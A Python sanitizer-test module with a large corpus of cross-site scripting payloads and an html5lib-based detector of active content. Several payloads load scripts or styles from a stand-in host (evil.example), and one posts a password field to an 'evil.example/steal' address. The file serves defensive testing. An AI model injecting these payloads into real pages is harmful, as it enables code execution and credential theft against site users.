"""
Hostile input for the sanitizing tests, and a parser that finds active content in HTML.

The payloads cover the classes that keep turning up in CMS advisories: script elements,
event handlers, ``javascript:``/``data:``/``vbscript:`` URLs hidden by entities, case and
whitespace, SVG and MathML namespaces, style injection, broken and mis-nested markup, and
Markdown's own link, image and reference syntax.
"""

import json
import re
from collections import Counter

import html5lib

# -- payloads ----------------------------------------------------------------------------

HANDWRITTEN = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)//",
    "<script type=module>import('//evil.example')</script>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    '<img src=x onerror="alert(1)"//',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x" alt="a" onload="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a href=https://example.com onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><td onmouseover=alert(1)>x</td></table>",
    "<td align=left onclick=alert(1)>cell</td>",
    "<abbr title=x onmouseover=alert(1)>x</abbr>",
    '<div data-video="x" onclick="alert(1)"></div>',
    "<blockquote cite=javascript:alert(1) onclick=alert(1)>q</blockquote>",
    # URLs in HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="//evil.example/%0ajavascript:alert(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src>">',
    # style injection
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example/x.html">',
    # frames, objects, forms, base, meta
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="set-cookie" content="a=b">',
    "<isindex action=javascript:alert(1) type=image>",
    # broken markup and parser confusion
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a title="\'><img src=x onerror=alert(1)>">x</a>',
    "<div><p>unclosed <b>bold <i>both</div><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<style><img src=x onerror=alert(1)></style>",
    "<table><tr><td><form><script>alert(1)</script>",
    "\u0000<script>alert(1)</script>",
    "<scri\u0000pt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% now 'Y' %} ${alert(1)}",
    "<%= 7*7 %><script>alert(1)</script>",
    # Markdown link and image tricks
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.com "title" onmouseover="alert(1)")',
    '[x](https://example.com"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "Term\n: <script>alert(1)</script>",
    "Footnote[^1]\n\n[^1]: <a href=javascript:alert(1)>x</a>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '[[video:x"><script>alert(1)</script>]]',
    "[[video:<script>alert(1)</script>]]",
    '<div data-video="../../admin"></div>',
]

# One hidden ``javascript:`` URL, many disguises, each placed four ways.
OBFUSCATED_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&colon;alert(1)",
    "java&#x09;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#x20;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
]
PLACEMENTS = [
    "[click]({url})",
    "![pic]({url})",
    '<a href="{url}">click</a>',
    "[click][r]\n\n[r]: {url}",
]
GENERATED = [place.format(url=url) for url in OBFUSCATED_URLS for place in PLACEMENTS]

PAYLOADS = list(dict.fromkeys(HANDWRITTEN + GENERATED))

# -- detection -------------------------------------------------------------------------

# Elements that run code, load documents or styles, or redirect forms and relative URLs.
ACTIVE_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "style",
    "link",
    "base",
    "form",
    "meta",
    "template",
    "isindex",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "srcset",
    "xlink:href",
    "cite",
    "srcdoc",
}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def browser_url(value: str) -> str:
    """The URL as a browser's parser sees it: outer controls and spaces trimmed, tabs and
    newlines removed anywhere (the WHATWG URL standard)."""
    return TAB_OR_NEWLINE.sub("", value.strip("".join(map(chr, range(0x21)))))


def is_json_data_block(script) -> bool:
    """A JSON-LD data block: browsers never execute it. Only when its type is exactly
    application/ld+json, its text is JSON, and it holds no "<" that could close the element
    (the site escapes <, > and & as \\u003C and so on)."""
    text = script.text or ""
    if script.get("type") != "application/ld+json" or "<" in text or len(script):
        return False
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def _local(name):
    return name.rsplit("}", 1)[-1]


def active_content(html: str) -> Counter:
    """Every piece of active content in a page, as a multiset of short descriptions.

    The page is parsed the way a browser parses it (html5lib), so entities in attributes
    are decoded and broken markup is repaired before anything is judged.
    """
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    found = Counter()
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = _local(element.tag)
        if tag == "script" and is_json_data_block(element):
            continue
        if tag in ACTIVE_TAGS:
            # Describe by kind and static source: the page's own /static/ scripts and
            # JSON data blocks are expected, anything else is counted as it is.
            source = element.get("src") or element.get("href") or element.get("type") or ""
            found[f"<{tag} {re.sub(r'[0-9]+', '#', source)}>"] += 1
        for raw_name, value in element.attrib.items():
            name = _local(raw_name).lower()
            if name.startswith("on"):
                found[f"{tag}[{name}]"] += 1
            if name == "style":
                found[f"{tag}[style]"] += 1
            if name in URL_ATTRIBUTES or raw_name.endswith("}href"):
                for candidate in value.split(",") if name == "srcset" else [value]:
                    if BAD_SCHEME.match(browser_url(candidate)):
                        found[f"{tag}[{name}={candidate[:40]}]"] += 1
            if name == "srcdoc":
                found[f"{tag}[srcdoc]"] += 1
    return found


def injected(html: str, baseline: Counter) -> Counter:
    """Active content in ``html`` that the same page with harmless text does not have."""
    return active_content(html) - baseline
